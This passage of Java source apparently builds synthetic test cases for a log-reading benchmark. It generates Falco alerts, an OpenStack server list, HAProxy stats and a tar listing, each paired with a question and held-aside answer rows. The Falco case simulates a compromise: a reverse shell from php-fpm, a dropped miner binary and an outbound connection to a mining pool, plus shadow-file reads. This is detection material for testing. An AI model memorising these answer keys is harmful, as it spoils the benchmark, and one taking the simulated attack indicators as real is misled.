                            new String[] {"fd_proto", "tcp"}, new String[] {"evt_type", "dup2", "evt.type"}), web, "www-data", 33, "sh", "/bin/dash",
                        "php-fpm", rev, arr("T1059", "container", "maturity_stable", "mitre_execution", "network", "process"));
                lines.add(redirect);
                LocalDateTime d = incident.plusNanos(16_004_227_310L);
                drop = falcoLine(d, web.host(), "Critical", "Drop and execute new binary in container", "Executing binary not part of base image",
                        List.of(new String[] {"proc_exe", "/tmp/.ICE-unix/kdevtmpfsi"}, new String[] {"proc_sname", "sh"}, new String[] {"gparent",
                            "php-fpm"}, new String[] {"proc_exe_ino_ctime", String.valueOf(epochNanos(d) - 2_118_004_221L)}, new String[] {"proc_cwd",
                            "/tmp/.ICE-unix/"}, new String[] {"evt_type", "execve", "evt.type"}), web, "www-data", 33, "kdevtmpfsi",
                        "/tmp/.ICE-unix/kdevtmpfsi", "sh", "kdevtmpfsi", arr("PCI_DSS_11.5.1", "T1562.001", "container", "drift", "maturity_stable",
                                "mitre_defense_evasion", "process"));
                lines.add(drop);
                LocalDateTime m = d.plusNanos(2_730_551_004L);
                miner = falcoLine(m, web.host(), "Critical", "Detect outbound connections to common miner pool ports",
                        "Outbound connection to IP/Port flagged by https://cryptoioc.ch", List.of(new String[] {"ip", "45.9.148.125", "fd.rip"},
                            new String[] {"port", "3333", "fd.rport"}, new String[] {"connection", "10.0.2.77:50312->45.9.148.125:3333", "fd.name"},
                            new String[] {"lport", "50312"}, new String[] {"rport", "3333"}, new String[] {"fd_type", "ipv4"}, new String[] {"fd_proto",
                            "tcp"}, new String[] {"evt_type", "connect", "evt.type"}), web, "www-data", 33, "kdevtmpfsi", "/tmp/.ICE-unix/kdevtmpfsi", "sh",
                        "kdevtmpfsi", arr("T1496", "container", "maturity_sandbox", "mitre_impact", "network"));
                lines.add(miner);
                t = m;
                continue;
            }
            switch (g.weighted(30, 34, 12, 14, 10)) {
                case 0 -> {
                    String[] a = g.pick(apps);
                    Ctr c = ctr.apply(a);
                    String cmd = g.pick(engineers);
                    String proc = cmd.contains("bash") ? "bash" : "sh";
                    lines.add(falcoLine(t, c.host(), "Notice", "Terminal shell in container", "A shell was spawned in a container with an attached terminal",
                            List.<String[]>of(new String[] {"evt_type", "execve", "evt.type"}), c, "root", 0, proc, proc.equals("bash") ? "/bin/bash" : "/bin/sh", "runc",
                            cmd, shellTags));
                }
                case 1 -> {
                    String[] a = g.pick(operators);
                    Ctr c = ctr.apply(new String[] {a[0], a[1], a[2], a[3]});
                    int port = g.between(32_768, 60_999);
                    String local = "10.0." + g.between(1, 3) + "." + g.between(10, 250);
                    lines.add(falcoLine(t, c.host(), "Notice", "Contact K8S API Server From Container",
                            "Unexpected connection to K8s API Server from container", List.of(new String[] {"connection", local + ":" + port + "->10.96.0.1:443",
                                "fd.name"}, new String[] {"lport", "443"}, new String[] {"rport", String.valueOf(port)}, new String[] {"fd_type", "ipv4"},
                                new String[] {"fd_proto", "tcp"}, new String[] {"evt_type", "connect", "evt.type"}), c, a[0].equals("shop-release-bot") ? "app"
                                    : "nonroot", a[0].equals("shop-release-bot") ? 1000 : 65_532, a[4], "/usr/local/bin/" + a[4], "tini", a[4], apiTags));
                }
                case 2 -> {
                    String host = g.pick(hosts);
                    lines.add(falcoLine(t, host, "Warning", "Read sensitive file untrusted", "Sensitive file opened for reading by non-trusted program",
                            List.of(new String[] {"file", "/etc/shadow", "fd.name"}, new String[] {"gparent", "systemd"}, new String[] {"ggparent", "<NA>"},
                                new String[] {"gggparent", "<NA>"}, new String[] {"evt_type", "openat", "evt.type"}), new Ctr("host", "<NA>", "<NA>", "host",
                                    "<NA>", "<NA>", host), "root", 0, "nessus-agent", "/opt/nessus_agent/sbin/nessus-agent", "nessus-service",
                            "nessus-agent --scan-local", sensTags));
                }
                case 3 -> {
                    String host = g.pick(hosts);
                    Ctr c = ctrs.computeIfAbsent("kube-vip" + host, k -> new Ctr(g.hex(12), "ghcr.io/kube-vip/kube-vip", "v0.8.3", "kube-vip",
                            "kube-system", "kube-vip-" + host + ".eu-west-1.compute.internal", host));
                    lines.add(falcoLine(t, host, "Notice", "Packet socket created in container", "Packet socket was created in a container",
                            List.of(new String[] {"socket_info", "domain=17(AF_PACKET) type=3 proto=1544"}, new String[] {"connection", "<NA>", "fd.name"},
                                new String[] {"lport", "<NA>"}, new String[] {"rport", "<NA>"}, new String[] {"fd_type", "<NA>"}, new String[] {"fd_proto",
                                "<NA>"}, new String[] {"evt_type", "socket", "evt.type"}), c, "root", 0, "kube-vip", "/kube-vip", "containerd-shim",
                            "kube-vip manager", pktTags));
                }
                default -> {
                    String host = g.pick(hosts);
                    String file = g.pick("/var/log/syslog", "/var/log/auth.log", "/var/log/kern.log", "/var/log/containers/falco.log");
                    lines.add(falcoLine(t, host, "Warning", "Clear Log Activities", "Log files were tampered", List.of(new String[] {"file", file,
                        "fd.name"}, new String[] {"evt_type", "openat", "evt.type"}), new Ctr("host", "<NA>", "<NA>", "host", "<NA>", "<NA>", host),
                            "root", 0, "logrotate", "/usr/sbin/logrotate", "systemd", "logrotate /etc/logrotate.conf", logTags));
                }
            }
        }
        Gen out = new Gen(0);
        for (String l : lines) {
            out.add(l);
        }
        String text = out.text();
        requireLines(out, 215, 215);
        requireSize(text, 150, 330);
        requireCount(text, "storefront-web-6c9f8d7b5-x2k4p", 6);
        if (redirect == null) {
            throw new IllegalStateException("the night ended before the incident");
        }
        requireCount(text, "\"priority\":\"Critical\"", 2);
        return NeedleCase.named("fresh19_falco_events", "jsonl", "falco-json")
                .shell("kubectl logs -n falco -l app.kubernetes.io/name=falco -c falco --since=10h --prefix=false | grep '^{'")
                .question("Security asked whether anything Falco reported in the prod cluster last night looks like a real compromise rather than"
                        + " the usual noise. If so: which pod, what was executed, and where did it connect to?")
                .heldAside()
                .build(text, List.of(Needle.exact(redirect), Needle.exact(drop), Needle.exact(miner)));
    }

    // ---------------------------------------------------------------- openstack server list

    private record Server(String id, String name, String status, String networks, String image, String flavor) {}

    private static String boxRow(List<String> cells, int[] widths) {
        StringBuilder sb = new StringBuilder("|");
        for (int i = 0; i < cells.size(); i++) {
            sb.append(' ').append(pad(cells.get(i), widths[i])).append(" |");
        }
        return sb.toString();
    }

    private static String boxRule(int[] widths) {
        StringBuilder sb = new StringBuilder("+");
        for (int w : widths) {
            sb.append("-".repeat(w + 2)).append('+');
        }
        return sb.toString();
    }

    /**
     * openstack server list in a platform project (about 250 servers, newest first, in the client's boxed table): k8s
     * masters and workers, CI runners and Jenkins agents, Postgres, Elasticsearch, Kafka, Redis, MinIO, developers' boxes
     * (some SHUTOFF, one SHELVED_OFFLOADED), with their networks (a floating IP after the fixed one), images (or "N/A
     * (booted from volume)") and flavors. The three runners Terraform was creating sit at the top: gitlab-runner-ci-07
     * ACTIVE, -08 still in BUILD, -09 in ERROR without an address. Further down pg-replica-03 is in ERROR and
     * elastic-data-04 waits in VERIFY_RESIZE. The question asks for the three runners' states and anything else in ERROR or
     * waiting for a resize confirmation: those five rows.
     */
    static NeedleCase openstackServerList() {
        Gen g = new Gen(220_006);
        List<Server> servers = new ArrayList<>();
        java.util.function.Supplier<String> bootImage = () -> g.pick("ubuntu-22.04-20261101", "ubuntu-22.04-20261101", "ubuntu-22.04-20260915",
                "ubuntu-24.04-20261020", "rocky-9.4-20260812", "N/A (booted from volume)");
        java.util.function.BiFunction<String, Boolean, String> net = (n, fip) -> {
            String ip = switch (n) {
                case "k8s-net" -> "10.20." + g.between(0, 7) + "." + g.between(4, 250);
                case "db-net" -> "10.30.2." + g.between(4, 250);
                case "ci-net" -> "10.40.0." + g.between(4, 250);
                default -> "10.30.1." + g.between(4, 250);
            };
            return n + "=" + ip + (fip ? ", 185.44." + g.between(112, 115) + "." + g.between(2, 250) : "");
        };
        for (int i = 1; i <= 3; i++) {
            servers.add(new Server(uuid(g), "k8s-master-" + i, "ACTIVE", net.apply("k8s-net", false), "ubuntu-22.04-20260915", "m1.xlarge"));
        }
        for (int i = 1; i <= 64; i++) {
            servers.add(new Server(uuid(g), fmt("k8s-worker-%02d", i), "ACTIVE", net.apply("k8s-net", false), g.pick("ubuntu-22.04-20261101",
                    "ubuntu-22.04-20260915"), g.pick("c8.2xlarge", "c8.2xlarge", "m8.2xlarge")));
        }
        for (int i = 1; i <= 6; i++) {
            servers.add(new Server(uuid(g), fmt("gitlab-runner-ci-%02d", i), "ACTIVE", net.apply("ci-net", false), "ubuntu-22.04-20260915", "c4.xlarge"));
        }
        for (int i = 1; i <= 24; i++) {
            servers.add(new Server(uuid(g), fmt("jenkins-agent-%02d", i), g.chance(0.1) ? "SHUTOFF" : "ACTIVE", net.apply("ci-net", false),
                    bootImage.get(), "c4.xlarge"));
        }
        servers.add(new Server(uuid(g), "pg-primary-01", "ACTIVE", net.apply("db-net", false), "N/A (booted from volume)", "r8.4xlarge"));
        Server pgErr = null;
        for (int i = 1; i <= 4; i++) {
            Server s = new Server(uuid(g), fmt("pg-replica-%02d", i), i == 3 ? "ERROR" : "ACTIVE", net.apply("db-net", false), "N/A (booted from volume)",
                    "r8.4xlarge");
            if (i == 3) {
                pgErr = s;
            }
            servers.add(s);
        }
        Server resize = null;
        for (int i = 1; i <= 9; i++) {
            Server s = new Server(uuid(g), fmt("elastic-data-%02d", i), i == 4 ? "VERIFY_RESIZE" : "ACTIVE", net.apply("platform-net", false),
                    "N/A (booted from volume)", i == 4 ? "r8.4xlarge" : "r8.2xlarge");
            if (i == 4) {
                resize = s;
            }
            servers.add(s);
        }
        String[][] fixed = {{"elastic-master-", "3", "m1.large"}, {"kafka-broker-", "6", "m8.2xlarge"}, {"zookeeper-", "3", "m1.medium"},
            {"redis-", "6", "r8.large"}, {"rabbitmq-", "3", "m1.large"}, {"minio-", "4", "s8.xlarge"}, {"monitoring-", "3", "m1.xlarge"},
            {"ldap-", "2", "m1.small"}, {"dns-", "2", "m1.small"}, {"ci-cache-", "2", "s8.xlarge"}, {"vault-", "3", "m1.medium"},
            {"consul-", "3", "m1.medium"}, {"haproxy-", "2", "c4.large"}};
        for (String[] f : fixed) {
            for (int i = 1; i <= Integer.parseInt(f[1]); i++) {
                servers.add(new Server(uuid(g), f[0] + i, "ACTIVE", net.apply("platform-net", f[0].startsWith("haproxy")), bootImage.get(), f[2]));
            }
        }
        servers.add(new Server(uuid(g), "bastion-1", "ACTIVE", net.apply("platform-net", true), "ubuntu-24.04-20261020", "m1.small"));
        servers.add(new Server(uuid(g), "vpn-gw-1", "ACTIVE", net.apply("platform-net", true), "ubuntu-22.04-20260915", "c4.large"));
        String[] devs = {"akowalski", "bnguyen", "cfischer", "dmoreau", "eolsen", "fgarcia", "gsato", "hpetrov", "ijansen", "jsmith", "kmuller",
            "lrossi", "mchen", "nsilva", "okim", "pnovak", "qli", "rbauer", "sdubois", "tkaur", "uadeyemi", "vortiz", "wlee", "xwang", "ylopez",
            "zhansen", "amehta", "bschmidt", "cyilmaz", "dhoang"};
        for (String d : devs) {
            int n = g.between(1, 3);
            for (int i = 1; i <= n; i++) {
                String status = switch (g.weighted(70, 26, 1)) {
                    case 0 -> "ACTIVE";
                    case 1 -> "SHUTOFF";
                    default -> "SHELVED_OFFLOADED";
                };
                if (d.equals("rbauer") && i == 1) {
                    status = "SHELVED_OFFLOADED";
                }
                servers.add(new Server(uuid(g), "dev-" + d + "-" + g.pick("box", "box", "gpu", "k3s", "test") + i, status,
                        status.equals("SHELVED_OFFLOADED") ? "dev-net=10.50.0." + g.between(4, 250) : net.apply("platform-net", false).replace("platform-net",
                                "dev-net").replace("=10.30.1.", "=10.50.0."), bootImage.get(), g.pick("m1.medium", "m1.large", "m1.large", "g1.xlarge")));
            }
        }
        for (int i = 1; i <= 22; i++) {
            servers.add(new Server(uuid(g), "test-" + Inputs.mixed(g, 6).toLowerCase(Locale.ROOT), g.chance(0.3) ? "SHUTOFF" : "ACTIVE",
                    net.apply("platform-net", false), bootImage.get(), "m1.small"));
        }
        // newest first: shuffle the fleet, then the three runners Terraform is creating on top
        for (int i = servers.size() - 1; i > 0; i--) {
            int j = g.nextInt(i + 1);
            Server tmp = servers.get(i);
            servers.set(i, servers.get(j));
            servers.set(j, tmp);
        }
        Server r9 = new Server(uuid(g), "gitlab-runner-ci-09", "ERROR", "", "ubuntu-22.04-20261101", "c4.xlarge");
        Server r8 = new Server(uuid(g), "gitlab-runner-ci-08", "BUILD", "", "ubuntu-22.04-20261101", "c4.xlarge");
        Server r7 = new Server(uuid(g), "gitlab-runner-ci-07", "ACTIVE", "ci-net=10.40.0.57", "ubuntu-22.04-20261101", "c4.xlarge");
        servers.addAll(0, List.of(r9, r8, r7));
        List<List<String>> rows = new ArrayList<>();
        rows.add(List.of("ID", "Name", "Status", "Networks", "Image", "Flavor"));
        for (Server s : servers) {
            rows.add(List.of(s.id(), s.name(), s.status(), s.networks(), s.image(), s.flavor()));
        }
        int[] widths = new int[6];
        for (List<String> r : rows) {
            for (int i = 0; i < 6; i++) {
                widths[i] = Math.max(widths[i], r.get(i).length());
            }
        }
        Gen out = new Gen(0);
        out.add(boxRule(widths));
        out.add(boxRow(rows.get(0), widths));
        out.add(boxRule(widths));
        for (int i = 1; i < rows.size(); i++) {
            out.add(boxRow(rows.get(i), widths));
        }
        out.add(boxRule(widths));
        String text = out.text();
        requireLines(out, 230, 330);
        requireCount(text, "| ERROR ", 2);
        requireCount(text, "VERIFY_RESIZE", 1);
        requireCount(text, "| BUILD ", 1);
        java.util.function.Function<Server, String> row = s -> boxRow(List.of(s.id(), s.name(), s.status(), s.networks(), s.image(), s.flavor()), widths);
        return NeedleCase.named("fresh19_openstack_server_list", "table", "openstack-server-list")
                .shell("openstack --os-cloud platform-prod server list")
                .question("terraform apply timed out while creating gitlab-runner-ci-07, -08 and -09. What state are those three VMs in? And is"
                        + " anything else in the project in ERROR or waiting for a resize to be confirmed?")
                .heldAside()
                .build(text, List.of(Needle.exact(row.apply(r7)), Needle.exact(row.apply(r8)), Needle.exact(row.apply(r9)), Needle.exact(row.apply(pgErr)),
                        Needle.exact(row.apply(resize))));
    }

    // ---------------------------------------------------------------- HAProxy "show stat" CSV

    private static final String[] HAPROXY_FIELDS = {"pxname", "svname", "qcur", "qmax", "scur", "smax", "slim", "stot", "bin", "bout", "dreq",
        "dresp", "ereq", "econ", "eresp", "wretr", "wredis", "status", "weight", "act", "bck", "chkfail", "chkdown", "lastchg", "downtime", "qlimit",
        "pid", "iid", "sid", "throttle", "lbtot", "tracked", "type", "rate", "rate_lim", "rate_max", "check_status", "check_code", "check_duration",
        "hrsp_1xx", "hrsp_2xx", "hrsp_3xx", "hrsp_4xx", "hrsp_5xx", "hrsp_other", "hanafail", "req_rate", "req_rate_max", "req_tot", "cli_abrt",
        "srv_abrt", "comp_in", "comp_out", "comp_byp", "comp_rsp", "lastsess", "last_chk", "last_agt", "qtime", "ctime", "rtime", "ttime",
        "agent_status", "agent_code", "agent_duration", "check_desc", "agent_desc", "check_rise", "check_fall", "check_health", "agent_rise",
        "agent_fall", "agent_health", "addr", "cookie", "mode", "algo", "conn_rate", "conn_rate_max", "conn_tot", "intercepted", "dcon", "dses",
        "wrew", "connect", "reuse", "cache_lookups", "cache_hits", "srv_icur", "src_ilim", "qtime_max", "ctime_max", "rtime_max", "ttime_max",
        "eint", "idle_conn_cur", "safe_conn_cur", "used_conn_cur", "need_conn_est", "uweight"};

    private static String haproxyRow(Map<String, Object> values) {
        StringBuilder sb = new StringBuilder();
        for (String f : HAPROXY_FIELDS) {
            Object v = values.get(f);
            sb.append(v == null ? "" : v.toString()).append(',');
        }
        return sb.toString();
    }

    /**
     * echo "show stat" | socat over the admin socket of the shop's edge HAProxy 2.8: the CSV header ("# pxname,svname,..."),
     * the frontends, about 30 HTTP backends with their servers and BACKEND rows, a hundred-odd columns each with the
     * trailing comma. All servers are UP with L7OK checks (a few "* L7OK" checks in progress) except in be_search, the
     * backend the question names: search-03 is DOWN (L4TOUT, Layer4 timeout), search-06 is in MAINT and search-07 is
     * "UP 1/3" with a failing L7STS 500 check, about to go down. be_legacy_soap's soap-02 is also DOWN (L4CON). The
     * question asks which be_search servers are down, in maintenance or failing checks and whether any other server is
     * down: those four rows.
     */
    static NeedleCase haproxyStatCsv() {
        Gen g = new Gen(220_007);
        Gen out = new Gen(0);
        out.add("# " + String.join(",", HAPROXY_FIELDS) + ",");
        String[] frontends = {"fe_http", "fe_https", "fe_internal", "stats"};
        int iid = 1;
        for (String fe : frontends) {
            long req = g.between(100_000, 9_000_000);
            Map<String, Object> v = new HashMap<>();
            v.put("pxname", fe);
            v.put("svname", "FRONTEND");
            v.put("qcur", null);
            v.put("scur", g.between(0, 900));
            v.put("smax", g.between(900, 4000));
            v.put("slim", 20_000);
            v.put("stot", req / 3);
            v.put("bin", req * g.between(400, 900));
            v.put("bout", req * g.between(4000, 20_000));
            v.put("dreq", g.between(0, 400));
            v.put("dresp", 0);
            v.put("ereq", g.between(0, 3000));
            v.put("status", "OPEN");
            v.put("pid", 1);
            v.put("iid", iid++);
            v.put("sid", 0);
            v.put("type", 0);
            v.put("rate", g.between(0, 400));
            v.put("rate_lim", 0);
            v.put("rate_max", g.between(400, 2000));
            v.put("hrsp_1xx", 0);
            v.put("hrsp_2xx", req * 8 / 10);
            v.put("hrsp_3xx", req / 20);
            v.put("hrsp_4xx", req / 12);
            v.put("hrsp_5xx", req / 900);
            v.put("hrsp_other", 0);
            v.put("req_rate", g.between(0, 900));
            v.put("req_rate_max", g.between(900, 4000));
            v.put("req_tot", req);
            v.put("comp_in", 0);
            v.put("comp_out", 0);
            v.put("comp_byp", 0);
            v.put("comp_rsp", 0);
            v.put("mode", "http");
            v.put("conn_rate", g.between(0, 300));
            v.put("conn_rate_max", g.between(300, 1500));
            v.put("conn_tot", req / 3);
            v.put("intercepted", fe.equals("stats") ? req : g.between(0, 200));
            v.put("dcon", 0);
            v.put("dses", 0);
            v.put("wrew", 0);
            v.put("cache_lookups", 0);
            v.put("cache_hits", 0);
            v.put("eint", 0);
            out.add(haproxyRow(v));
        }
        String[][] backends = {{"be_web", "web", "10", "10.30.10."}, {"be_api", "api", "12", "10.30.11."}, {"be_search", "search", "8", "10.30.12."},
            {"be_static", "static", "4", "10.30.13."}, {"be_checkout", "checkout", "6", "10.30.14."}, {"be_auth", "auth", "4", "10.30.15."},
            {"be_admin", "admin", "2", "10.30.16."}, {"be_legacy_soap", "soap", "2", "10.30.17."}, {"be_websocket", "ws", "6", "10.30.18."},
            {"be_images", "img", "6", "10.30.19."}, {"be_reports", "reports", "3", "10.30.20."}, {"be_grpc_orders", "orders", "4", "10.30.21."},
            {"be_cart", "cart", "6", "10.30.22."}, {"be_catalog", "catalog", "8", "10.30.23."}, {"be_pricing", "pricing", "4", "10.30.24."},
            {"be_inventory", "inventory", "4", "10.30.25."}, {"be_recommend", "reco", "4", "10.30.26."}, {"be_reviews", "reviews", "3", "10.30.27."},
            {"be_wishlist", "wishlist", "2", "10.30.28."}, {"be_account", "account", "4", "10.30.29."}, {"be_newsletter", "news", "2", "10.30.30."},
            {"be_payments_cb", "paycb", "3", "10.30.31."}, {"be_shipping", "shipping", "4", "10.30.32."}, {"be_tax", "tax", "2", "10.30.33."},
            {"be_cms", "cms", "3", "10.30.34."}, {"be_sitemap", "sitemap", "2", "10.30.35."}, {"be_feeds", "feeds", "3", "10.30.36."},
            {"be_graphql", "gql", "6", "10.30.37."}, {"be_uploads", "uploads", "3", "10.30.38."}, {"be_health", "health", "2", "10.30.39."}};
        String down = null;
        String maint = null;
        String failing = null;
        String soapDown = null;
        for (String[] be : backends) {
            int n = Integer.parseInt(be[2]);
            int beIid = iid++;
            long total = 0;
            long fivexx = 0;
            int up = 0;
            for (int s = 1; s <= n; s++) {
                String sv = fmt("%s-%02d", be[1], s);
                long req = g.between(20_000, 2_000_000);
                String status = "UP";
                String check = g.chance(0.05) ? "* L7OK" : "L7OK";
                Object code = 200;
                String desc = "Layer7 check passed";
                int chkfail = g.between(0, 6);
                int chkdown = chkfail > 3 ? 1 : 0;
                long lastchg = g.between(80_000, 2_400_000);
                long downtime = chkdown * g.between(5, 120);
                Object health = 4;
                Object weight = 1;
                String lastChk = "";
                long v5 = req / g.between(2000, 20_000);
                if (be[0].equals("be_search") && s == 3) {
                    status = "DOWN";
                    check = "L4TOUT";
                    code = null;
                    desc = "Layer4 timeout";
                    chkfail = 41;
                    chkdown = 3;
                    lastchg = 1_873;
                    downtime = 2_411;
                    health = 0;
                    v5 = req / 40;
                } else if (be[0].equals("be_search") && s == 6) {
                    status = "MAINT";
                    lastchg = 86_112;
                    downtime = 86_112;
                    weight = 0;
                } else if (be[0].equals("be_search") && s == 7) {
                    status = "UP 1/3";
                    check = "L7STS";
                    code = 500;
                    desc = "Layer7 wrong status";
                    lastChk = "HTTP status check returned code <3C>500<3E>";
                    chkfail = 19;
                    chkdown = 2;
                    lastchg = 14;
                    health = 3;
                    v5 = req / 60;
                } else if (be[0].equals("be_legacy_soap") && s == 2) {
                    status = "DOWN";
                    check = "L4CON";
                    code = null;
                    desc = "Layer4 connection problem";
                    lastChk = "Connection refused";
                    chkfail = 7;
                    chkdown = 1;
                    lastchg = 7_204;
                    downtime = 7_204;
                    health = 0;
                }
                if (status.startsWith("UP")) {
                    up++;
                }
                total += req;
                fivexx += v5;
                Map<String, Object> v = new HashMap<>();
                v.put("pxname", be[0]);
                v.put("svname", sv);
                v.put("qcur", 0);
                v.put("qmax", g.between(0, 12));
                v.put("scur", status.startsWith("UP") ? g.between(0, 60) : 0);
                v.put("smax", g.between(60, 400));
                v.put("slim", 500);
                v.put("stot", req);
                v.put("bin", req * g.between(400, 900));
                v.put("bout", req * g.between(2000, 30_000));
                v.put("dresp", 0);
                v.put("econ", g.between(0, 30) + (check.equals("L4TOUT") ? 1_204 : 0));
                v.put("eresp", g.between(0, 80));
                v.put("wretr", g.between(0, 40));
                v.put("wredis", g.between(0, 8));
                v.put("status", status);
                v.put("weight", weight);
                v.put("act", 1);
                v.put("bck", 0);
                v.put("chkfail", chkfail);
                v.put("chkdown", chkdown);
                v.put("lastchg", lastchg);
                v.put("downtime", downtime);
                v.put("pid", 1);
                v.put("iid", beIid);
                v.put("sid", s);
                v.put("lbtot", req);
                v.put("type", 2);
                v.put("rate", status.startsWith("UP") ? g.between(0, 90) : 0);
                v.put("rate_max", g.between(90, 600));
                v.put("check_status", check);
                v.put("check_code", code);
                v.put("check_duration", check.equals("L4TOUT") ? 2001 : g.between(0, 12));
                v.put("hrsp_1xx", 0);
                v.put("hrsp_2xx", req - req / 10 - v5);
                v.put("hrsp_3xx", req / 20);
                v.put("hrsp_4xx", req / 20);
                v.put("hrsp_5xx", v5);
                v.put("hrsp_other", 0);
                v.put("hanafail", 0);
                v.put("cli_abrt", g.between(0, 900));
                v.put("srv_abrt", g.between(0, 40));
                v.put("lastsess", status.startsWith("UP") ? g.between(0, 3) : lastchg);
                v.put("last_chk", lastChk);
                v.put("qtime", 0);
                v.put("ctime", g.between(0, 2));
                v.put("rtime", g.between(2, be[0].equals("be_reports") ? 900 : 90));
                v.put("ttime", g.between(20, 400));
                v.put("check_desc", desc);
                v.put("check_rise", 2);
                v.put("check_fall", 3);
                v.put("check_health", health);
                v.put("addr", be[3] + (10 + s) + ":" + (be[0].equals("be_grpc_orders") ? 50051 : 8080));
                v.put("mode", "http");
                v.put("connect", req / g.between(3, 8));
                v.put("reuse", req - req / 5);
                v.put("srv_icur", g.between(0, 20));
                v.put("src_ilim", "");
                v.put("qtime_max", g.between(0, 30));
                v.put("ctime_max", g.between(1, 40) + (check.equals("L4TOUT") ? 2000 : 0));
                v.put("rtime_max", g.between(100, 6000));
                v.put("ttime_max", g.between(300, 30_000));
                v.put("eint", 0);
                v.put("idle_conn_cur", g.between(0, 20));
                v.put("safe_conn_cur", g.between(0, 10));
                v.put("used_conn_cur", g.between(0, 30));
                v.put("need_conn_est", g.between(0, 10));
                v.put("uweight", weight);
                String row = haproxyRow(v);
                if (be[0].equals("be_search") && s == 3) {
                    down = row;
                } else if (be[0].equals("be_search") && s == 6) {
                    maint = row;
                } else if (be[0].equals("be_search") && s == 7) {
                    failing = row;
                } else if (be[0].equals("be_legacy_soap") && s == 2) {
                    soapDown = row;
                }
                out.add(row);
            }
            Map<String, Object> v = new HashMap<>();
            v.put("pxname", be[0]);
            v.put("svname", "BACKEND");
            v.put("qcur", 0);
            v.put("qmax", g.between(0, 40));
            v.put("scur", g.between(0, 300));
            v.put("smax", g.between(300, 1200));
            v.put("slim", 2000);
            v.put("stot", total);
            v.put("bin", total * 600);
            v.put("bout", total * 9000);
            v.put("dreq", 0);
            v.put("dresp", 0);
            v.put("econ", g.between(0, 200));
            v.put("eresp", g.between(0, 400));
            v.put("wretr", g.between(0, 200));
            v.put("wredis", g.between(0, 30));
            v.put("status", up > 0 ? "UP" : "DOWN");
            v.put("weight", up);
            v.put("act", up);
            v.put("bck", 0);
            v.put("chkdown", 0);
            v.put("lastchg", g.between(100_000, 2_400_000));
            v.put("downtime", 0);
            v.put("pid", 1);
            v.put("iid", beIid);
            v.put("sid", 0);
            v.put("lbtot", total);
            v.put("type", 1);
            v.put("rate", g.between(0, 400));
            v.put("rate_max", g.between(400, 3000));
            v.put("hrsp_1xx", 0);
            v.put("hrsp_2xx", total - total / 10 - fivexx);
            v.put("hrsp_3xx", total / 20);
            v.put("hrsp_4xx", total / 20);
            v.put("hrsp_5xx", fivexx);
            v.put("hrsp_other", 0);
            v.put("req_tot", total);
            v.put("cli_abrt", g.between(0, 9000));
            v.put("srv_abrt", g.between(0, 400));
            v.put("comp_in", 0);
            v.put("comp_out", 0);
            v.put("comp_byp", 0);
            v.put("comp_rsp", 0);
            v.put("lastsess", 0);
            v.put("qtime", 0);
            v.put("ctime", g.between(0, 2));
            v.put("rtime", g.between(2, 120));
            v.put("ttime", g.between(20, 600));
            v.put("mode", "http");
            v.put("algo", be[0].equals("be_websocket") ? "leastconn" : "roundrobin");
            v.put("conn_tot", total / 4);
            v.put("connect", total / 5);
            v.put("reuse", total - total / 5);
            v.put("cache_lookups", 0);
            v.put("cache_hits", 0);
            v.put("qtime_max", g.between(0, 60));
            v.put("ctime_max", g.between(1, 3000));
            v.put("rtime_max", g.between(300, 9000));
            v.put("ttime_max", g.between(900, 60_000));
            v.put("eint", 0);
            v.put("idle_conn_cur", g.between(0, 60));
            v.put("safe_conn_cur", g.between(0, 30));
            v.put("used_conn_cur", g.between(0, 90));
            v.put("need_conn_est", g.between(0, 30));
            v.put("uweight", up);
            out.add(haproxyRow(v));
        }
        String text = out.text();
        requireLines(out, 150, 220);
        requireCount(text, ",DOWN,", 2);
        requireCount(text, ",MAINT,", 1);
        requireCount(text, ",UP 1/3,", 1);
        return NeedleCase.named("fresh19_haproxy_stat_csv", "csv", "haproxy-show-stat-csv")
                .shell("echo \"show stat\" | sudo socat stdio /run/haproxy/admin.sock")
                .question("Users get intermittent 503s on /api/search. Which servers in be_search are down, in maintenance or failing their health"
                        + " checks? Is any server in another backend down?")
                .heldAside()
                .build(text, List.of(Needle.exact(down), Needle.exact(maint), Needle.exact(failing), Needle.exact(soapDown)));
    }

    // ---------------------------------------------------------------- tar -tvzf

    /** GNU tar's verbose listing: the user/group and size column widens to the longest seen so far and stays there. */
    private static final class TarListing {
        final Gen out = new Gen(0);
        int ugswidth = 19;

        final java.util.Set<String> seen = new java.util.HashSet<>();

        /** Lists one member; a name already listed (a generated duplicate) is skipped and gives null. */
        String add(String mode, String owner, long size, String date, String name) {
            if (!seen.add(name)) {
                return null;
            }
            String sz = String.valueOf(size);
            int pad = owner.length() + sz.length();
            if (pad > ugswidth) {
                ugswidth = pad;
            }
            String line = mode + " " + owner + " " + lpad(sz, ugswidth - pad + sz.length()) + " " + date + " " + name;
            out.add(line);
            return line;
        }
    }

    /**
     * tar -tvzf of last night's backup of the shop's app server (/etc, the Postgres dumps, the PHP application, the deploy
     * user's home), as GNU tar lists it: mode, owner/group, size in a column that widens once, date, name (symlinks with
     * their target). /etc holds the usual configuration, hundreds of CA symlinks, nginx's sites; var/backups/pg holds
     * tonight's pg_dump files, among them orders-2026-12-08.dump with size 0; the listing stops inside the vendor tree of
     * the application release with gzip's "unexpected end of file" and tar's "Unexpected EOF in archive" (the archive is
     * truncated, the home directory is missing). The question asks whether the orders dump and shop.example.com's nginx
     * config are in it and whether the archive is complete: those two rows and the two truncation messages.
     */
    static NeedleCase tarListing() {
        Gen g = new Gen(220_008);
        TarListing tar = new TarListing();
        java.util.function.Supplier<String> oldDate = () -> fmt("20%02d-%02d-%02d %02d:%02d", g.between(22, 26), g.between(1, 12), g.between(1, 28),
                g.between(0, 23), g.between(0, 59));
        tar.add("drwxr-xr-x", "root/root", 0, "2026-12-02 06:14", "etc/");
        String[] etcFiles = {"passwd", "group", "hostname", "hosts", "fstab", "crontab", "environment", "locale.gen", "timezone", "issue", "issue.net",
            "motd", "os-release", "adduser.conf", "deluser.conf", "bash.bashrc", "profile", "shells", "sysctl.conf", "nsswitch.conf", "host.conf",
            "ld.so.conf", "ld.so.cache", "login.defs", "mke2fs.conf", "netconfig", "protocols", "services", "rpc", "ethertypes", "inputrc",
            "logrotate.conf", "rsyslog.conf", "sudo.conf", "sudoers", "ucf.conf", "wgetrc", "mime.types", "magic", "magic.mime", "papersize",
            "machine-id", "subuid", "subgid", "gshadow", "shadow"};
        for (String f : etcFiles) {
            boolean secret = f.equals("shadow") || f.equals("gshadow") || f.equals("sudoers");
            boolean tiny = List.of("hostname", "timezone", "machine-id", "issue", "issue.net", "papersize", "subuid", "subgid").contains(f);
